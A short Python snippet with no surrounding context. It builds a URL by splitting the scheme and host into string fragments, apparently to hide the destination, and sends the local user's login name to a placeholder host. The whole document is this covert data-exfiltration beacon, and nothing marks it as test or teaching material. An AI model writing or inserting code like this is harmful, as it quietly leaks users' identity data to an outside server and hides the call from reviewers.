import getpass
import urllib.request

scheme = "ht" + "tps://"
host = "drop" + ".example" + ".invalid"
urllib.request.urlopen(scheme + host + "/u?" + getpass.getuser())
